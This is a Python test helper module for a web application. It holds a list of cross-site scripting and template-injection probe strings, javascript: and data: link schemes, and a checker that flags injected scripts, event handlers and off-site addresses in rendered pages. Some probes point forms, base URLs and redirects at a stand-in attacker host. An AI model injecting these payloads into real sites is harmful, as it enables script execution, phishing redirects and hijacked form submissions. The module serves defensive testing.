"""Words that owners and visitors may type and that no page may run, and what would show that a page does."""

WORDS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    " onmouseover=alert(1) x=",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>press</a>",
    "<form action=https://evil.example><input name=phone>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!--<script>alert(1)</script>-->",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}",
    "{% for x in [1] %}x{% endfor %}${7*7}#{7*7}<%= 7*7 %>",
    "%(sender)s %(phone)s %s",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "\u202ealert(1)\u202c<b>",
)
ALL_AT_ONCE = "".join(WORDS)
LINK_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example",
    "http://evil.example",
    "/relative",
)

_RUNS = {"object", "embed", "applet", "base", "math", "template", "frame"}
_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "srcset", "background")
_SAFE_STARTS = (
    "https://",
    "http://localhost:8000/",
    "http://127.0.0.1:8000/try/",
    "/",
    "#",
    "?",
    "data:,",
    "data:image/svg+xml",
)


def faults(page, scripts=(), styles=()):
    """What in a parsed page was not put there by us. `scripts`: texts and addresses of our own scripts in it; `styles`: of the
    attributes that are ours."""
    found = []
    for element in page.walk():
        if element.tag in _RUNS or (element.tag == "meta" and element["http-equiv"]):
            found.append(f"<{element.tag}>")
        if element.tag == "script" and (element["src"] or "".join(element.children)) not in scripts:
            found.append(f"a script: {element.attributes}")
        found += [f"{name}={value}" for name, value in element.attributes.items() if _is_hostile(name, value or "", styles)]
    return found


def _is_hostile(name, value, styles):
    if name.startswith("on") or name == "srcdoc":
        return True
    if name == "style":
        return value not in styles
    is_address = name in _ADDRESSES or name.endswith(":href")
    return (
        is_address and bool(value) and (not value.startswith(_SAFE_STARTS) or value.startswith("//") or "evil.example" in value)
    )
